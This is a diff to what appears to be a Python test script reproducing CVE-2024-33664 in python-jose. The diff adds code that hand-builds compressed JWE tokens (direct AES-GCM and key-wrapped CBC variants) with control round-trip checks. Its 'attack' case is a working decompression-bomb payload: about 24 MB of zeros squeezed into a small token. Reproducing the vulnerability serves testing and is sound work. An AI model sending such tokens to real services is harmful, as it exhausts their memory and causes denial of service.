@@ -18,7 +18,7 @@
 # [cases.variants]
 # wrapped_key = "the same with a wrapped key and CBC encryption"
 # [cases.controls]
-# round_trip = "a small compressed token is encrypted and decrypted"
+# round_trip = "a small compressed token is decrypted, and refused with another key"
 #
 # [test]
 # vulnerable = "3.3.0"
@@ -26,24 +26,54 @@
 # ///
 """CVE-2024-33664: compressed tokens without a limit."""
 
+import base64
+import hashlib
+import hmac
 import json
+import struct
 import sys
 import warnings
+import zlib
 
 warnings.simplefilter("ignore")
 LARGE = 24 * 1000 * 1000
 
 
-def decrypt_and_look(key, algorithm, encryption):
+def part(data):
+    return base64.urlsafe_b64encode(data).rstrip(b"=")
+
+
+def encrypt(data, key, wrapped):
+    """A compressed token made by hand: the package itself cannot encrypt with newer releases of cryptography."""
+    from cryptography.hazmat.backends import default_backend
+    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
+    from cryptography.hazmat.primitives.ciphers.aead import AESGCM
+    from cryptography.hazmat.primitives.keywrap import aes_key_wrap
+
+    squeezer = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS)
+    squeezed = squeezer.compress(data) + squeezer.flush()
+    names = ("A128KW", "A128CBC-HS256") if wrapped else ("dir", "A128GCM")
+    header = part(json.dumps({"alg": names[0], "enc": names[1], "zip": "DEF"}).encode())
+    if not wrapped:
+        sealed = AESGCM(key).encrypt(b"i" * 12, squeezed, header)
+        return b".".join([header, b"", part(b"i" * 12), part(sealed[:-16]), part(sealed[-16:])])
+    content_key, padding = b"m" * 16 + b"e" * 16, 16 - len(squeezed) % 16
+    cipher = Cipher(algorithms.AES(content_key[16:]), modes.CBC(b"i" * 16), default_backend()).encryptor()
+    sealed = cipher.update(squeezed + struct.pack("B", padding) * padding) + cipher.finalize()
+    signed = header + b"i" * 16 + sealed + struct.pack(">Q", 8 * len(header))
+    tag = hmac.new(content_key[:16], signed, hashlib.sha256).digest()[:16]
+    wrapped_key = aes_key_wrap(key, content_key, default_backend())
+    return b".".join([header, part(wrapped_key), part(b"i" * 16), part(sealed), part(tag)])
+
+
+def decrypt_and_look(wrapped):
     from jose import jwe
     from jose.exceptions import JWEError
 
-    def encrypt(data):
-        return jwe.encrypt(data, key, algorithm=algorithm, encryption=encryption, zip="DEF")
-
-    if jwe.decrypt(encrypt(b"hello"), key) != b"hello":
+    key = b"k" * 16
+    if jwe.decrypt(encrypt(b"hello", key, wrapped), key) != b"hello":
         return "error", "a small token was not decrypted"
-    token = encrypt(b"\0" * LARGE)
+    token = encrypt(b"\0" * LARGE, key, wrapped)
     try:
         size = len(jwe.decrypt(token, key))
     except JWEError as error:
@@ -56,11 +86,11 @@ def decrypt_and_look(key, algorithm, encryption):
 
 
 def attack():
-    return decrypt_and_look(b"k" * 16, "dir", "A128GCM")
+    return decrypt_and_look(wrapped=False)
 
 
 def wrapped_key():
-    return decrypt_and_look(b"k" * 16, "A128KW", "A128CBC-HS256")
+    return decrypt_and_look(wrapped=True)
 
 
 def round_trip():
@@ -68,7 +98,7 @@ def round_trip():
     from jose.exceptions import JWEError
 
     text = b"order 7 of bob; " * 200
-    token = jwe.encrypt(text, b"k" * 16, algorithm="dir", encryption="A128GCM", zip="DEF")
+    token = encrypt(text, b"k" * 16, wrapped=False)
     try:
         jwe.decrypt(token, b"w" * 16)
         refused = False
